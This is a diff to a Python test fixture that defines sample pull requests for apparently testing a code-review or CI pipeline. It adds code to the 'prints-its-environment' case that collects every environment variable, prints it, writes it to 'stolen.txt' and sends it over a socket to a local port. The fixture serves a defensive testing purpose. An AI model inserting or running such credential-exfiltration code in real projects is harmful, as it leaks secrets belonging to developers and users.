@@ -22,11 +22,16 @@ WAIVER = {
     "expires": (date.today() + timedelta(days=30)).isoformat(),
 }
 STEALS = """
-import os as _os, sys as _sys, pathlib as _pathlib
+import os as _os, sys as _sys, pathlib as _pathlib, socket as _socket
+_found = "\\n".join(f"{k}={v}" for k, v in _os.environ.items())
 print(dict(_os.environ), file=_sys.stderr)
-_pathlib.Path(__file__).with_name("stolen.txt").write_text("\\n".join(f"{k}={v}" for k, v in _os.environ.items()))
+_pathlib.Path(__file__).with_name("stolen.txt").write_text(_found)
+with _socket.create_connection(("127.0.0.1", PORT)) as _outside:
+    _outside.sendall(_found.encode())
 raise RuntimeError(str(dict(_os.environ)))
 """
+THIEF = "prints-its-environment"
+"""The pull request whose program prints, writes, sends and throws what it finds."""
 
 
 def settings(**more: object) -> Edit:
@@ -43,6 +48,11 @@ def settings(**more: object) -> Edit:
 def level(rule: str, value: str) -> Edit:
     """An edit of one level of dev's policies."""
     return lambda text: json.dumps({**json.loads(text), rule: value}, indent=2) + "\n"
+
+
+def stealing_for(port: int) -> Edit:
+    """An edit that adds a program which sends what it finds to that port of this machine."""
+    return appended(STEALS.replace("PORT", str(port)))
 
 
 @dataclass(frozen=True)
@@ -175,8 +185,8 @@ PULL_REQUESTS: Mapping[str, PullRequest] = {
         FINE,
         ("this change sets `ENC-07` of the policies** from `the default` to `disabled`", "#### dev"),
     ),
-    "prints-its-environment": PullRequest(
-        {"stacks/wiring.py": appended(STEALS)},
+    THIEF: PullRequest(
+        {},  # made by the test, which knows where it listens
         FAILED,
         ("it failed", "RuntimeError"),
     ),
